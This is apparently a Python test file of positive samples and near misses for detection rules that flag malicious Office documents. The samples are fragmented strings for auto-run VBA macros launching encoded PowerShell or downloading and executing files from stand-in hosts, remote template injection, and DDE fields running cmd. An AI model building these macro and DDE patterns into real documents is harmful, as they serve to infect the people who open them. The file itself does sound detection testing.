"""Behaviour of the rules for Office documents."""

from rules.bundle.samples import ADDRESS, PROSE, Case, text

_RELATION = (
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    "relationships/attached"
)

CASES = {
    "Clearward_Office_Macro_Shell": Case(
        samples=(
            text(
                "Sub AutoO",
                "pen()\n  She",
                'll "powersh',
                "ell -ep bypass -en",
                'c " & a, 0\nEnd Sub',
            ),
            text(
                "Private Sub Document_O",
                'pen()\n  CreateObject("WScr',
                'ipt.Shell").Run "cu',
                'rl -o a http://files.example/a"\nEnd Sub',
            ),
        ),
        near_misses=(
            text(
                "Private Sub Workbook_Open()\n",
                '  Shell "notepad.exe C:\\Reports\\today.txt", 1\nEnd Sub',
            ),
            text(
                "Private Sub Workbook_Open()\n",
                '  Set shell = CreateObject("WScript.Shell")\n',
                '  shell.Run "powershell -File \\\\server\\share\\refresh.ps1", ',
                "1, True\nEnd Sub",
            ),
            text(
                "Sub Fetch()\n",
                '  Shell "cur§l -o a.csv http://reports.example/a.csv"\nEnd Sub',
            ),
        ),
    ),
    "Clearward_Office_Macro_Download": Case(
        samples=(
            text(
                "Declare PtrSafe Function URLDown",
                'loadToFile Lib "urlmon" Alias "x" ()\nSub Auto_O',
                "pen()\n",
                '  p = Environ("TEMP") & "\\a.ex',
                'e"\n  URLDown',
                "loadToFile 0, u, p, 0, 0\n  She",
                "ll p, 0\nEnd Sub",
            ),
            text(
                "Sub Workbook_O",
                'pen()\n  Set x = CreateObject("MSXML2.XML',
                'HTTP")\n  p = Environ$("APPDATA") & "\\a.sc',
                'r"\n  s.SaveTo',
                'File p, 2\n  CreateObject("WScript.Shell").R',
                "un p\nEnd Sub",
            ),
        ),
        near_misses=(
            text(
                'Sub Workbook_Open()\n  Set x = CreateObject("MSXML2.XML§HTTP")\n',
                '  x.Open "GET", rates, False\nEnd Sub',
            ),
            text(
                'Declare Function URL§DownloadToFile Lib "urlmon" ()\n',
                "Sub Workbook_Open()\n",
                '  URL§DownloadToFile 0, u, Environ("TEMP") & "\\rates.csv", 0, ',
                "0\nEnd Sub",
            ),
            text(
                'Sub Fetch()\n  p = Environ("TEMP") & "\\setup.exe"\n',
                "  s.Sa§veToFile p\n  Shell p\nEnd Sub",
            ),
        ),
    ),
    "Clearward_Office_Remote_Template": Case(
        samples=(
            text(
                *_RELATION,
                f'Template" Target="http://{ADDRESS}/a.dotm" TargetMode="External"/>',
            ),
            text(
                *_RELATION,
                'Template" Target="https://files.example/a.php?x=1" ',
                'TargetMode="External"/>',
            ),
            text("{\\rt", "f1{\\*\\templ", f"ate http://{ADDRESS}/a.dotx}}}}"),
        ),
        near_misses=(
            text(
                *_RELATION,
                'Template" ',
                'Target="https://intranet.example/templates/letter.dotx" ',
                'TargetMode="External"/>',
            ),
            text(
                *_RELATION,
                'Template" Target="file:///C:\\Templates\\letter.dotm" ',
                'TargetMode="External"/>',
            ),
            text(
                *_RELATION,
                'Template" Target="http://192.168.4.5/templates/letter.dotm" ',
                'TargetMode="External"/>',
            ),
            text(
                '<Relationship Type="http://example.org/hyperlink" ',
                'Target="http://198.51.100.7/" TargetMode="External"/>',
            ),
        ),
    ),
    "Clearward_Office_DDE_Command": Case(
        samples=(
            text(
                '<w:instrText xml:space="preserve"> DDE',
                "AUTO c:\\\\windows\\\\system32\\\\cm",
                'd.exe "/k echo"',
            ),
            text("<ddeLink ddeSer", 'vice="cm', 'd" ddeTopic="/c echo">'),
            text("1;=cm", "d|'/c power", "shell echo'", "!A1;2"),
            text("{\\field{\\*\\fldin", "st {DDE cm", 'd "/c echo" a}}}'),
        ),
        near_misses=(
            text(
                '<w:instrText xml:space="preserve"> DDEAUTO excel ',
                "C:\\\\Reports\\\\cube.xlsx Sheet1!R1C1 </w:instrText>",
            ),
            text('<ddeLink ddeService="Excel" ddeTopic="C:\\Reports\\a.xls">'),
            text("=cm", "d|' /C calc'!A0\n"),
            text(
                PROSE, "A DDEAUTO field can run cmd.exe when the reader agrees twice."
            ),
        ),
    ),
}
